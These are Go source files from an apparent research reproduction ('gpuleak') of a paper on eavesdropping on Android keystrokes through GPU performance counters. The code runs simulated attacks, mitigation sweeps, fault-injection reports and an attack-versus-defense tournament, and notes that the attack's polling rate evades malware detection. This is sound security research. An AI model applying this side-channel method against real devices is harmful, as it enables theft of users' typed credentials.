	per := o.Trials(80)

	type outcome struct {
		text, char, lengthLeak float64
		blocked                bool
	}
	run := func(mut func(*victim.Config), defend func(*victim.Session)) (outcome, error) {
		rng := sim.NewRand(o.Seed + 9)
		var inferred, truths []string
		lenHits, lenTotal := 0, 0
		for i := 0; i < per; i++ {
			cfg := base
			cfg.Seed = o.Seed + int64(i)*271
			if mut != nil {
				mut(&cfg)
			}
			text := input.RandomText(rng, LowerDigits, 8+rng.Intn(6))
			sess := victim.New(cfg)
			sess.Run(input.Typing(text, input.Volunteers[i%5], input.SpeedAny,
				sim.NewRand(cfg.Seed^0x9), 700*sim.Millisecond))
			if defend != nil {
				defend(sess)
			}
			f, err := sess.Open()
			if err != nil {
				return outcome{blocked: true}, nil
			}
			atk := attack.New(m)
			r, err := atk.Eavesdrop(f, 0, sess.End)
			if err != nil {
				return outcome{blocked: true}, nil
			}
			truth := sess.TypedText()
			inferred = append(inferred, r.Text)
			truths = append(truths, truth)
			lenTotal++
			if r.EstimatedLength == len([]rune(truth)) {
				lenHits++
			}
		}
		return outcome{
			text:       stats.TextAccuracy(inferred, truths),
			char:       stats.CharAccuracy(inferred, truths),
			lengthLeak: float64(lenHits) / float64(lenTotal),
		}, nil
	}

	addRow := func(label string, oc outcome, note string) {
		if oc.blocked {
			res.Table.AddRow(label, "blocked", "blocked", "blocked", note)
			res.Metrics["text_"+label] = 0
			res.Metrics["blocked_"+label] = 1
			return
		}
		res.Table.AddRow(label, stats.Pct(oc.text), stats.Pct(oc.char), stats.Pct(oc.lengthLeak), note)
		res.Metrics["text_"+label] = oc.text
		res.Metrics["length_"+label] = oc.lengthLeak
	}

	// Baseline.
	oc, err := run(nil, nil)
	if err != nil {
		return nil, err
	}
	addRow("none", oc, "")

	// §9.1 popup disabling: credentials protected, length still leaks.
	oc, err = run(func(c *victim.Config) { c.DisablePopups = true }, nil)
	if err != nil {
		return nil, err
	}
	addRow("popups disabled", oc, "length still leaks (§9.1)")

	// §9.3 password manager / autofill: one fill frame.
	oc, err = run(func(c *victim.Config) { c.Autofill = true }, nil)
	if err != nil {
		return nil, err
	}
	addRow("autofill", oc, "first-time entry still typed")

	// §9.2 RBAC via the SELinux ioctl whitelist (the shipped fix).
	oc, err = run(nil, func(s *victim.Session) {
		s.Device.SetPolicy(mitigate.NewGooglePatchPolicy())
	})
	if err != nil {
		return nil, err
	}
	addRow("SELinux ioctl whitelist", oc, "PERFCOUNTER_READ denied")

	// §9.3 obfuscation sweep: accuracy falls as amplitude (and GPU cost)
	// rises — the paper's open tuning question.
	for _, amp := range []float64{0.0005, 0.002, 0.01} {
		amp := amp
		obf := &mitigate.NoiseObfuscator{Amplitude: amp, Seed: 31}
		oc, err = run(nil, func(s *victim.Session) { s.Device.SetObfuscator(obf) })
		if err != nil {
			return nil, err
		}
		label := fmt.Sprintf("obfuscation x%.4f", amp)
		addRow(label, oc, fmt.Sprintf("GPU cost ~%.2f%%", 100*obf.GPUCostFraction()))
		res.Metrics[fmt.Sprintf("obf_%.4f_text", amp)] = oc.text
	}

	// §9.1 malware detection: the attack's ioctl rate vs a normal GL
	// client's. The paper: thousands of calls per second are normal, so
	// the attack's ~125/s polling is unremarkable.
	attackRate := float64(sim.Second) / float64(attack.DefaultInterval)
	const normalDriverRate = 3000.0 // §9.1: "thousands of invocations per second"
	res.Table.AddRow("malware detection (§9.1)", "-", "-", "-",
		fmt.Sprintf("attack %d ioctl/s vs ~%d/s from a normal GL driver", int(attackRate), int(normalDriverRate)))
	res.Metrics["attack_ioctl_rate"] = attackRate
	res.Metrics["normal_ioctl_rate"] = normalDriverRate
	return res, nil
}
