package exp

import (
	"context"
	"fmt"

	"gpuleak/internal/attack"
	"gpuleak/internal/fault"
	"gpuleak/internal/input"
	"gpuleak/internal/parallel"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
	"gpuleak/internal/victim"
)

// ChaosSchema identifies the wire format of a chaos report.
const ChaosSchema = "gpuleak-chaos/v1"

// ChaosReport is the gpuleak-chaos/v1 recovery-rate report: one victim
// workload eavesdropped under every requested fault profile, with
// accuracy and recovery accounting per profile. For a fixed seed the
// report is bit-identical at any worker count — every trial's victim
// seed, text and fault schedule are pure functions of its index.
type ChaosReport struct {
	Schema string `json:"schema"`
	// Seed is the base seed every per-trial seed derives from.
	Seed int64 `json:"seed"`
	// Trials is the per-profile trial count and TextLen the credential
	// length; the same texts and victim seeds are reused across profiles
	// so accuracy differences are attributable to the fault plane alone.
	Trials  int `json:"trials"`
	TextLen int `json:"text_len"`
	// BaselineMatch reports that every "none"-profile trial, run through
	// the fault plane with the retry policy armed, produced a result
	// byte-identical to the raw library path — the passthrough guarantee.
	// False when the report includes no "none" profile.
	BaselineMatch bool `json:"baseline_match"`
	// Profiles holds one entry per requested profile, in request order.
	Profiles []ChaosProfileResult `json:"profiles"`
}

// ChaosProfileResult aggregates one fault profile's trials.
type ChaosProfileResult struct {
	Profile string `json:"profile"`
	// Rate is the profile's severity scalar (sum of fault probabilities).
	Rate   float64 `json:"rate"`
	Trials int     `json:"trials"`
	// Exact counts trials whose inferred text matched the truth exactly.
	Exact int `json:"exact"`
	// TextAccuracy / CharAccuracy / MeanLevenshtein score the inferred
	// credentials against ground truth (§7.1 metrics).
	TextAccuracy    float64 `json:"text_accuracy"`
	CharAccuracy    float64 `json:"char_accuracy"`
	MeanLevenshtein float64 `json:"mean_levenshtein"`
	// Degraded counts trials that recovered from at least one fault;
	// Fatal counts trials the retry policy could not save. A well-tuned
	// policy keeps Fatal at 0: faults cost accuracy, not availability.
	Degraded int `json:"degraded"`
	Fatal    int `json:"fatal"`
	// Injected sums what the fault plane actually injected across the
	// profile's trials; Recovery sums the sampler's recovery work. Gaps
	// and Resyncs count the engine's gap-segmentation decisions.
	Injected fault.InjectedStats `json:"injected"`
	Recovery attack.CollectStats `json:"recovery"`
	Gaps     int                 `json:"gaps"`
	Resyncs  int                 `json:"resyncs"`
}

// chaosTrial is one (profile, trial) outcome.
type chaosTrial struct {
	inferred, truth string
	degraded        bool
	fatal           bool
	injected        fault.InjectedStats
	recovery        attack.CollectStats
	gaps, resyncs   int
	baselineOK      bool
}

// chaosOnce eavesdrops one victim session through a fault plane. For the
// "none" profile it additionally replays the identical session through
// the raw device with the legacy no-retry policy and verifies the two
// results agree — the passthrough byte-identity the golden tests pin.
func chaosOnce(ctx context.Context, cfg victim.Config, m *attack.Model, text string,
	p fault.Profile, faultSeed, seed int64) (chaosTrial, error) {

	run := func(wrap bool, retry attack.RetryPolicy) (*attack.Result, *fault.File, error) {
		c := cfg
		c.Seed = seed
		sess := victim.New(c)
		script := input.Typing(text, input.Volunteers[0], input.SpeedAny,
			sim.NewRand(seed^0x5DEECE66D), 700*sim.Millisecond)
		sess.Run(script)
		f, err := sess.Open()
		if err != nil {
			return nil, nil, err
		}
		atk := &attack.Attack{Models: []*attack.Model{m}, Interval: attack.DefaultInterval, Retry: retry}
		if !wrap {
			res, err := atk.EavesdropContext(ctx, f, 0, sess.End)
			return res, nil, err
		}
		ff := fault.NewFile(f, p, faultSeed)
		res, err := atk.EavesdropContext(ctx, ff, 0, sess.End)
		return res, ff, err
	}

	out := chaosTrial{baselineOK: true}
	res, ff, err := run(true, attack.DefaultRetryPolicy())
	if err != nil {
		if ctx.Err() != nil {
			return out, err
		}
		// The fault plane beat the retry policy: record the loss, keep the
		// experiment going — availability failures are a result, not an
		// experiment error.
		out.fatal = true
		out.inferred = ""
		c := cfg
		c.Seed = seed
		sess := victim.New(c)
		sess.Run(input.Typing(text, input.Volunteers[0], input.SpeedAny,
			sim.NewRand(seed^0x5DEECE66D), 700*sim.Millisecond))
		out.truth = sess.TypedText()
		if ff != nil {
			out.injected = ff.Stats
		}
		return out, nil
	}
	out.inferred = res.Text
	out.degraded = res.Degraded
	out.recovery = res.Recovery
	out.gaps = res.Stats.Gaps
	out.resyncs = res.Stats.Resyncs
	out.injected = ff.Stats
	{
		c := cfg
		c.Seed = seed
		sess := victim.New(c)
		sess.Run(input.Typing(text, input.Volunteers[0], input.SpeedAny,
			sim.NewRand(seed^0x5DEECE66D), 700*sim.Millisecond))
		out.truth = sess.TypedText()
	}

	if p.IsZero() {
		// Passthrough check: the wrapped run must equal the raw legacy run
		// in every observable.
		raw, _, err := run(false, attack.RetryPolicy{})
		if err != nil {
			return out, fmt.Errorf("exp: chaos baseline raw run: %w", err)
		}
		out.baselineOK = res.Text == raw.Text &&
			res.Stats == raw.Stats &&
			len(res.Keys) == len(raw.Keys) &&
			res.EstimatedLength == raw.EstimatedLength &&
			!res.Degraded && !raw.Degraded
	}
	return out, nil
}

// RunChaosProfiles eavesdrops trials×len(profiles) sessions and builds
// the gpuleak-chaos/v1 report. The model is trained (or fetched) once;
// trials fan out across o.Workers with per-trial seeds derived from
// (o.Seed, profile index, trial index), so the report is bit-identical
// at any worker count.
func RunChaosProfiles(o Options, profiles []fault.Profile, trials, textLen int) (*ChaosReport, error) {
	if trials < 1 {
		trials = 1
	}
	if textLen < 1 {
		textLen = 8
	}
	cfg := DefaultConfig()
	m, err := TrainModelWorkers(cfg, o.Workers)
	if err != nil {
		return nil, err
	}

	// Same texts for every profile: trial i types texts[i] under each
	// profile, so per-profile accuracy is comparable.
	rng := sim.NewRand(o.Seed)
	texts := make([]string, trials)
	for i := range texts {
		texts[i] = input.RandomText(rng, LowerDigits, textLen)
	}

	n := len(profiles) * trials
	slots := make([]chaosTrial, n)
	err = parallel.ForEachCtx(o.Context(), o.Workers, n, func(i int) error {
		pIdx, trial := i/trials, i%trials
		t, err := chaosOnce(o.Context(), cfg, m, texts[trial], profiles[pIdx],
			fault.Seed(o.Seed, i), o.Seed+int64(trial)*101)
		if err != nil {
			return err
		}
		slots[i] = t
		return nil
	})
	if err != nil {
		return nil, err
	}

	rep := &ChaosReport{
		Schema: ChaosSchema, Seed: o.Seed, Trials: trials, TextLen: textLen,
	}
	sawNone := false
	baselineOK := true
	for pIdx, p := range profiles {
		pr := ChaosProfileResult{Profile: p.Name, Rate: p.Rate(), Trials: trials}
		var inferred, truth []string
		levSum := 0
		for trial := 0; trial < trials; trial++ {
			t := slots[pIdx*trials+trial]
			inferred = append(inferred, t.inferred)
			truth = append(truth, t.truth)
			levSum += stats.Levenshtein(t.inferred, t.truth)
			if t.inferred == t.truth {
				pr.Exact++
			}
			if t.degraded {
				pr.Degraded++
			}
			if t.fatal {
				pr.Fatal++
			}
			pr.Injected.Add(t.injected)
			pr.Recovery.Add(t.recovery)
			pr.Gaps += t.gaps
			pr.Resyncs += t.resyncs
			if p.IsZero() {
				sawNone = true
				baselineOK = baselineOK && t.baselineOK
			}
		}
		pr.TextAccuracy = stats.TextAccuracy(inferred, truth)
		pr.CharAccuracy = stats.CharAccuracy(inferred, truth)
		pr.MeanLevenshtein = float64(levSum) / float64(trials)
		rep.Profiles = append(rep.Profiles, pr)
	}
	rep.BaselineMatch = sawNone && baselineOK
	return rep, nil
}

// RunChaos is the registry entry point: every predefined profile at
// quick-scaled trial counts, reported as a table plus chaos.* metrics.
func RunChaos(o Options) (*Result, error) {
	rep, err := RunChaosProfiles(o, fault.Profiles(), o.Trials(40), 8)
	if err != nil {
		return nil, err
	}
	res := newResult("chaos", "Recovery under injected device faults",
		"profile", "rate", "text acc", "char acc", "mean lev", "degraded", "fatal", "injected", "retries", "gaps")
	for _, pr := range rep.Profiles {
		res.Table.AddRow(pr.Profile,
			fmt.Sprintf("%.3f", pr.Rate),
			fmt.Sprintf("%.1f%%", 100*pr.TextAccuracy),
			fmt.Sprintf("%.1f%%", 100*pr.CharAccuracy),
			fmt.Sprintf("%.2f", pr.MeanLevenshtein),
			fmt.Sprintf("%d/%d", pr.Degraded, pr.Trials),
			fmt.Sprintf("%d", pr.Fatal),
			fmt.Sprintf("%d", pr.Injected.Total()),
			fmt.Sprintf("%d", pr.Recovery.Retries),
			fmt.Sprintf("%d", pr.Gaps+pr.Resyncs))
		res.Metrics["chaos.text_acc."+pr.Profile] = pr.TextAccuracy
		res.Metrics["chaos.char_acc."+pr.Profile] = pr.CharAccuracy
		res.Metrics["chaos.fatal."+pr.Profile] = float64(pr.Fatal)
		res.Metrics["chaos.injected."+pr.Profile] = float64(pr.Injected.Total())
	}
	if rep.BaselineMatch {
		res.Metrics["chaos.baseline_match"] = 1
	} else {
		res.Metrics["chaos.baseline_match"] = 0
	}
	return res, nil
}
