package exp

import (
	"fmt"

	"gpuleak/internal/attack"
	"gpuleak/internal/channel"
	"gpuleak/internal/defense"
	"gpuleak/internal/input"
	"gpuleak/internal/obs"
	"gpuleak/internal/parallel"
	"gpuleak/internal/proccount"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
	"gpuleak/internal/trace"
	"gpuleak/internal/victim"
)

// The arms experiment runs the attack-vs-defense tournament: every
// registered defense, swept over strength levels, against the attack at
// full power — retry/resync machinery armed on both channels plus
// decision-level kgsl+proccount fusion. Each (defense, strength) cell
// replays the same victim sessions as the undefended baseline, so the
// frontier reports paired accuracy drops, not sampling noise. The
// deliverable is the accuracy-vs-overhead frontier (gpuleak-arms/v1):
// which defenses buy how much attacker degradation at what platform
// cost.

// ArmsSchema identifies the tournament report's wire format.
const ArmsSchema = "gpuleak-arms/v1"

// ArmsReport is the gpuleak-arms/v1 JSON document cmd/arms emits: the
// tournament inputs, the undefended fused baseline, and one frontier
// point per (defense, strength). For a fixed seed the report is
// bit-identical at any worker count.
type ArmsReport struct {
	Schema  string `json:"schema"`
	Seed    int64  `json:"seed"`
	Trials  int    `json:"trials"`
	TextLen int    `json:"text_len"`
	// Strengths is the sweep grid every defense was evaluated on.
	Strengths []float64 `json:"strengths"`
	// Baseline is the undefended fused attack on the same sessions
	// (strength 0, overhead 0) — the frontier's origin.
	Baseline ArmsPoint `json:"baseline"`
	// Defenses holds one frontier row per defense, in requested order.
	Defenses []ArmsDefenseResult `json:"defenses"`
}

// ArmsDefenseResult is one defense's row of the frontier.
type ArmsDefenseResult struct {
	// Defense is the registry name ("quantize", or a "+"-joined chain).
	Defense string `json:"defense"`
	// Doc is the defense's one-line mechanism description.
	Doc string `json:"doc"`
	// Channels is the defense's applicability set.
	Channels []string `json:"channels"`
	// Points are the sweep results, one per strength in report order.
	Points []ArmsPoint `json:"points"`
}

// ArmsPoint is one (defense, strength) cell of the tournament.
type ArmsPoint struct {
	// Strength is the defense knob in [0, 1]; 0 marks the baseline.
	Strength float64 `json:"strength"`
	// Overhead is the defense's reported platform cost estimate.
	Overhead float64 `json:"overhead"`
	// CharAcc and TextAcc score the fused attacker against ground truth.
	CharAcc float64 `json:"char_acc"`
	TextAcc float64 `json:"text_acc"`
	// KGSLCharAcc and ProcCharAcc score the single channels before
	// fusion, locating which channel the defense actually hurt.
	KGSLCharAcc float64 `json:"kgsl_char_acc"`
	ProcCharAcc float64 `json:"proc_char_acc"`
	// Drop is the fused char-accuracy reduction vs the baseline — the
	// frontier's y-axis.
	Drop float64 `json:"drop"`
	// Blocked counts trials whose KGSL collection failed outright (the
	// defense cost availability, not just accuracy); the fused attacker
	// falls back to the surviving channel in those trials.
	Blocked int `json:"blocked,omitempty"`
	// Degraded counts trials where the sampler's recovery machinery
	// fired; Recovered and Flipped total the fusion rule activations.
	Degraded  int `json:"degraded,omitempty"`
	Recovered int `json:"recovered,omitempty"`
	Flipped   int `json:"flipped,omitempty"`
}

// armsTrial is one tournament session's outcome across both channels.
type armsTrial struct {
	kgsl, proc, fused, truth string
	blocked                  bool
	degraded                 bool
	recovered, flipped       int
}

// armsOnce runs one victim session against one armed defense (nil pol =
// undefended baseline): KGSL and proccount collected through the
// defense's probe wraps with the default retry policy, inferred
// independently, then fused at decision level. A failed KGSL collection
// (or an all-masked trace the recognizer rejects) is a blocked trial —
// the attacker degrades to the surviving channel instead of failing.
func armsOnce(o Options, cfg victim.Config, pm, sm *attack.Model, sch channel.Channel,
	text string, pol defense.Policy, strength float64, seed, defSeed int64, tr *obs.Tracer) (armsTrial, error) {

	c := cfg
	c.Seed = seed
	sess := victim.New(c)
	sess.Run(input.Typing(text, input.Volunteers[0], input.SpeedAny,
		sim.NewRand(seed^0x5DEECE66D), 700*sim.Millisecond))
	out := armsTrial{truth: sess.TypedText()}

	var inst defense.Instance = nil
	if pol != nil {
		var err error
		inst, err = pol.Arm(sess, strength, defSeed)
		if err != nil {
			return out, err
		}
	}

	retry := attack.DefaultRetryPolicy()

	// Primary: the KGSL channel through the defense's read path.
	f, err := sess.Open()
	if err != nil {
		return out, err
	}
	var pprobe channel.Probe = f
	if inst != nil {
		pprobe = inst.WrapProbe(channel.DefaultName, pprobe)
	}
	pa := &attack.Attack{Models: []*attack.Model{pm}, Interval: attack.DefaultInterval,
		Retry: retry, Obs: tr}
	var pres *attack.Result
	var ptr *trace.Trace
	ps, err := attack.NewSamplerRetry(pprobe, attack.DefaultInterval, retry)
	if err != nil {
		out.blocked = true
	} else {
		ps.Obs = tr
		t, err := ps.CollectContext(o.Context(), 0, sess.End)
		if err != nil {
			if o.Context().Err() != nil {
				return out, err
			}
			out.blocked = true
		} else {
			out.degraded = ps.Stats.Degraded()
			r, err := pa.EavesdropTrace(t)
			if err != nil {
				// A fully masked or starved trace the recognizer rejects:
				// the channel went dark, not the experiment.
				out.blocked = true
			} else {
				pres, ptr = r, t
				out.kgsl = r.Text
			}
		}
	}

	// Secondary: the proccount channel, same retry machinery (defenses
	// that cover it deny with its own taxonomy).
	sf, err := sch.Open(sess)
	if err != nil {
		return out, err
	}
	var sprobe channel.Probe = sf
	if inst != nil {
		sprobe = inst.WrapProbe(sch.Name(), sprobe)
	}
	sa := &attack.Attack{Models: []*attack.Model{sm}, Interval: sch.Interval(),
		Errors: sch.Taxonomy(), Retry: retry}
	var sres *attack.Result
	ss, err := attack.NewSamplerTaxonomy(sprobe, sch.Interval(), retry, sch.Taxonomy())
	if err == nil {
		str, err := ss.CollectContext(o.Context(), 0, sess.End)
		if err != nil {
			if o.Context().Err() != nil {
				return out, err
			}
		} else if r, err := sa.EavesdropTrace(str); err == nil {
			sres = r
			out.proc = r.Text
		}
	}

	// Decision-level fusion, degrading to whichever channel survived.
	switch {
	case pres != nil && sres != nil:
		fr := attack.Fuse(pm, ptr.Deltas(), pres, sm, sres, attack.DefaultInterval, attack.FusionOptions{})
		out.fused = fr.Fused.Text
		out.recovered = fr.Recovered
		out.flipped = fr.Flipped
	case pres != nil:
		out.fused = pres.Text
	case sres != nil:
		out.fused = sres.Text
	}
	return out, nil
}

// RunArmsTournament sweeps the named defenses over the strength grid,
// trials victim sessions per cell plus the shared undefended baseline,
// fanned out over o.Workers. Every session, credential and defense seed
// derives from the cell and trial indices, so the report is
// bit-identical at any worker count.
func RunArmsTournament(o Options, names []string, strengths []float64, trials, textLen int) (*ArmsReport, error) {
	if len(names) == 0 {
		names = defense.Names()
	}
	if len(strengths) == 0 {
		strengths = []float64{0.25, 0.5, 1}
	}
	pols := make([]defense.Policy, len(names))
	for i, name := range names {
		p, err := defense.Get(name)
		if err != nil {
			return nil, err
		}
		pols[i] = p
	}

	cfg := DefaultConfig()
	pm, err := TrainModelChannel(cfg, o.Workers, "")
	if err != nil {
		return nil, err
	}
	sm, err := TrainModelChannel(cfg, o.Workers, proccount.Name)
	if err != nil {
		return nil, err
	}
	sch, err := channel.Get(proccount.Name)
	if err != nil {
		return nil, err
	}

	rng := sim.NewRand(o.Seed)
	texts := make([]string, trials)
	for i := range texts {
		texts[i] = input.RandomText(rng, LowerDigits, textLen)
	}

	// Work items: the shared baseline block first, then one block per
	// (defense, strength) cell. Victim seeds depend only on the trial
	// index, so every cell replays the same sessions as the baseline.
	cells := len(pols) * len(strengths)
	n := (1 + cells) * trials
	var children []*obs.Tracer
	if o.Obs != nil {
		children = make([]*obs.Tracer, n)
		for i := range children {
			children[i] = o.Obs.Child(fmt.Sprintf("arms/%04d", i))
		}
	}
	slots := make([]armsTrial, n)
	err = parallel.ForEachCtx(o.Context(), o.Workers, n, func(i int) error {
		trial := i % trials
		cell := i/trials - 1 // -1 is the baseline block
		var pol defense.Policy
		strength := 0.0
		if cell >= 0 {
			pol = pols[cell/len(strengths)]
			strength = strengths[cell%len(strengths)]
		}
		var tr *obs.Tracer
		if children != nil {
			tr = children[i]
		}
		t, err := armsOnce(o, cfg, pm, sm, sch, texts[trial], pol, strength,
			o.Seed+int64(trial)*101, defense.Seed(o.Seed, i), tr)
		if err != nil {
			return err
		}
		slots[i] = t
		return nil
	})
	if err != nil {
		return nil, err
	}

	score := func(block int, strength, overhead, baseChar float64) ArmsPoint {
		var kgsl, proc, fused, truth []string
		pt := ArmsPoint{Strength: strength, Overhead: overhead}
		for trial := 0; trial < trials; trial++ {
			t := slots[block*trials+trial]
			kgsl = append(kgsl, t.kgsl)
			proc = append(proc, t.proc)
			fused = append(fused, t.fused)
			truth = append(truth, t.truth)
			if t.blocked {
				pt.Blocked++
			}
			if t.degraded {
				pt.Degraded++
			}
			pt.Recovered += t.recovered
			pt.Flipped += t.flipped
		}
		pt.CharAcc = stats.CharAccuracy(fused, truth)
		pt.TextAcc = stats.TextAccuracy(fused, truth)
		pt.KGSLCharAcc = stats.CharAccuracy(kgsl, truth)
		pt.ProcCharAcc = stats.CharAccuracy(proc, truth)
		pt.Drop = baseChar - pt.CharAcc
		return pt
	}

	rep := &ArmsReport{
		Schema: ArmsSchema, Seed: o.Seed, Trials: trials, TextLen: textLen,
		Strengths: append([]float64(nil), strengths...),
	}
	rep.Baseline = score(0, 0, 0, 0)
	rep.Baseline.Drop = 0
	for di, pol := range pols {
		row := ArmsDefenseResult{
			Defense:  pol.Name(),
			Doc:      pol.Doc(),
			Channels: pol.Channels(),
		}
		for si, s := range strengths {
			block := 1 + di*len(strengths) + si
			row.Points = append(row.Points, score(block, s, pol.Overhead(s), rep.Baseline.CharAcc))
		}
		rep.Defenses = append(rep.Defenses, row)
	}
	return rep, nil
}

// RunArms is the registry entry point: the quick-scale tournament over
// every registered defense. The arms.best_drop metric is the largest
// fused char-accuracy reduction bought at ≤ 10% reported overhead — the
// headline the CI arms smoke gates on through cmd/arms -check.
func RunArms(o Options) (*Result, error) {
	rep, err := RunArmsTournament(o, nil, nil, o.Trials(30), 8)
	if err != nil {
		return nil, err
	}
	res := newResult("arms", "Attack-vs-defense tournament: accuracy-vs-overhead frontier",
		"defense", "strength", "overhead", "fused char", "kgsl char", "proc char", "drop", "blocked")
	res.Table.AddRow("(baseline)", "0", "0",
		fmt.Sprintf("%.1f%%", 100*rep.Baseline.CharAcc),
		fmt.Sprintf("%.1f%%", 100*rep.Baseline.KGSLCharAcc),
		fmt.Sprintf("%.1f%%", 100*rep.Baseline.ProcCharAcc),
		"", fmt.Sprintf("%d", rep.Baseline.Blocked))
	res.Metrics["arms.char_acc.baseline"] = rep.Baseline.CharAcc
	best := 0.0
	for _, d := range rep.Defenses {
		for _, pt := range d.Points {
			res.Table.AddRow(d.Defense,
				fmt.Sprintf("%g", pt.Strength),
				fmt.Sprintf("%.3f", pt.Overhead),
				fmt.Sprintf("%.1f%%", 100*pt.CharAcc),
				fmt.Sprintf("%.1f%%", 100*pt.KGSLCharAcc),
				fmt.Sprintf("%.1f%%", 100*pt.ProcCharAcc),
				fmt.Sprintf("%+.1f%%", -100*pt.Drop),
				fmt.Sprintf("%d", pt.Blocked))
			res.Metrics[fmt.Sprintf("arms.char_acc.%s.%g", d.Defense, pt.Strength)] = pt.CharAcc
			if pt.Overhead <= 0.10 && pt.Drop > best {
				best = pt.Drop
			}
		}
	}
	res.Metrics["arms.best_drop"] = best
	return res, nil
}
