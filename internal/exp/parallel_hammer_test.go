package exp

import (
	"reflect"
	"sync"
	"testing"
)

// TestConcurrentExperimentRuns hammers the worker pool from above: whole
// experiments run concurrently (as cmd/benchpaper does), each fanning its
// own trials and trainings out, all sharing the singleflight model cache.
// Under -race this exercises the pool, the shared render cache and the
// model cache; the metric maps must match a serial reference exactly,
// since determinism is independent of scheduling and worker count.
func TestConcurrentExperimentRuns(t *testing.T) {
	runs := []struct {
		name string
		run  func(Options) (*Result, error)
	}{
		{"fig21", RunFig21},
		{"fig22", RunFig22},
	}
	refs := make([]map[string]float64, len(runs))
	for i, r := range runs {
		res, err := r.run(Options{Quick: true, Seed: 777, Workers: 1})
		if err != nil {
			t.Fatalf("%s reference: %v", r.name, err)
		}
		refs[i] = res.Metrics
	}

	var wg sync.WaitGroup
	errs := make(chan error, 8)
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			i := g % len(runs)
			res, err := runs[i].run(Options{Quick: true, Seed: 777, Workers: g%3 + 1})
			if err != nil {
				errs <- err
				return
			}
			if !reflect.DeepEqual(res.Metrics, refs[i]) {
				t.Errorf("concurrent %s (goroutine %d) metrics diverge from serial reference",
					runs[i].name, g)
			}
		}(g)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
}
