package exp

import (
	"gpuleak/internal/baseline"
	"gpuleak/internal/cupti"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
)

// RunTable2 reproduces Table 2: the eavesdropping accuracy of prior work
// [37] using workload-level desktop Nvidia GPU counters (CUPTI, 10 ms
// polling) with three classifiers over three victim applications. The
// paper reports 8.7-14.2% — workload-level counters cannot resolve
// per-key overdraw, which motivates the paper's pixel-granularity
// counters.
func RunTable2(o Options) (*Result, error) {
	res := newResult("table2", "Table 2: accuracy of prior work [37] on desktop Nvidia counters",
		"classifier", "gedit", "Gmail web", "Dropbox client")

	alphabet := []rune("abcdefghijklmnopqrstuvwxyz0123456789" + `,.;'-=`)
	trainPer := o.Trials(30)
	testPer := o.Trials(10)

	clfs := []func() baseline.Classifier{
		func() baseline.Classifier { return &baseline.GaussianNB{} },
		func() baseline.Classifier { return &baseline.KNN{K: 3} },
		func() baseline.Classifier { return &baseline.RandomForest{Trees: 40, Seed: o.Seed} },
	}

	accs := make([][]float64, len(clfs))
	for ci := range accs {
		accs[ci] = make([]float64, len(cupti.Workloads))
	}

	for wi, w := range cupti.Workloads {
		rng := sim.NewRand(o.Seed + int64(wi)*17)
		build := func(per int) *baseline.Dataset {
			d := &baseline.Dataset{}
			for rep := 0; rep < per; rep++ {
				for yi, r := range alphabet {
					d.Add(w.KeystrokeSample(r, rng), yi)
				}
			}
			return d
		}
		train := build(trainPer)
		test := build(testPer)
		for ci, mk := range clfs {
			c := mk()
			if err := c.Fit(train); err != nil {
				return nil, err
			}
			accs[ci][wi] = baseline.Accuracy(c, test)
		}
	}

	names := []string{"Naive Bayes", "KNN3", "Random Forest"}
	maxAcc := 0.0
	for ci, name := range names {
		res.Table.AddRow(name, stats.Pct(accs[ci][0]), stats.Pct(accs[ci][1]), stats.Pct(accs[ci][2]))
		for wi, w := range cupti.Workloads {
			res.Metrics[name+"/"+w.Name] = accs[ci][wi]
			if accs[ci][wi] > maxAcc {
				maxAcc = accs[ci][wi]
			}
		}
	}
	res.Metrics["max_accuracy"] = maxAcc
	res.Metrics["chance"] = 1.0 / float64(len(alphabet))
	return res, nil
}
