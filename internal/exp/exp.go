// Package exp reproduces every table and figure of the paper's evaluation
// (§7, §8, §9.3 and Table 2). Each Run* function executes one experiment
// on the simulated stack and returns a printable table plus named scalar
// metrics that the benchmark harness and the regression tests assert on.
//
// Experiments run at two scales: Quick (CI-friendly subsets) and full
// (paper-scale trial counts). All runs are seeded and deterministic.
package exp

import (
	"context"
	"fmt"
	"sync"

	"gpuleak/internal/android"
	"gpuleak/internal/attack"
	"gpuleak/internal/input"
	"gpuleak/internal/keyboard"
	"gpuleak/internal/obs"
	"gpuleak/internal/parallel"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
	"gpuleak/internal/victim"
)

// Options controls experiment scale and seeding.
type Options struct {
	// Quick shrinks trial counts for CI; the full scale matches the
	// paper's methodology (e.g. 300 random texts per input length).
	Quick bool
	// Seed drives every random choice in the experiment.
	Seed int64
	// Workers caps the worker pool each experiment fans its independent
	// trials, configurations and training sessions across: 1 is fully
	// serial, 0 (the default) uses one worker per CPU. Results are
	// byte-identical at any worker count — every trial derives its seed
	// from its index, never from scheduling.
	Workers int
	// Obs, when non-nil, records per-trial telemetry (one child track per
	// RunBatch trial, created in index order so the stream is independent
	// of scheduling). Model training stays uninstrumented: the cache's
	// singleflight makes who-trains scheduling-dependent.
	Obs *obs.Tracer
	// Ctx, when non-nil, cancels the experiment cooperatively: batches
	// stop issuing trials and in-flight eavesdrops abort at the next
	// sampler tick. A run that completes is byte-identical to an
	// uncanceled one.
	Ctx context.Context
}

// Context resolves the cancellation context (Background when unset).
func (o Options) Context() context.Context {
	if o.Ctx != nil {
		return o.Ctx
	}
	return context.Background()
}

// Trials scales a paper-sized trial count down in quick mode.
func (o Options) Trials(full int) int {
	if !o.Quick {
		return full
	}
	n := full / 10
	if n < 4 {
		n = 4
	}
	return n
}

// Result is one experiment's output.
type Result struct {
	ID      string
	Table   stats.Table
	Metrics map[string]float64
}

// Metric fetches a named metric (0 when absent).
func (r *Result) Metric(name string) float64 { return r.Metrics[name] }

func newResult(id, title string, header ...string) *Result {
	return &Result{
		ID:      id,
		Table:   stats.Table{Title: title, Header: header},
		Metrics: map[string]float64{},
	}
}

// ---------------------------------------------------------------------
// Shared infrastructure.

// DefaultConfig is the paper's workhorse configuration: OnePlus 8 Pro,
// GBoard, Chase, FHD+ at 60 Hz, with realistic render jitter.
func DefaultConfig() victim.Config {
	return victim.Config{
		Device:       android.OnePlus8Pro,
		App:          android.Chase,
		Keyboard:     keyboard.GBoard,
		RenderJitter: 0.0001,
	}
}

// modelCache shares trained classifiers across experiments; offline
// collection is the expensive step, exactly as in the real attack where
// models are trained once per configuration and preloaded. Each entry is
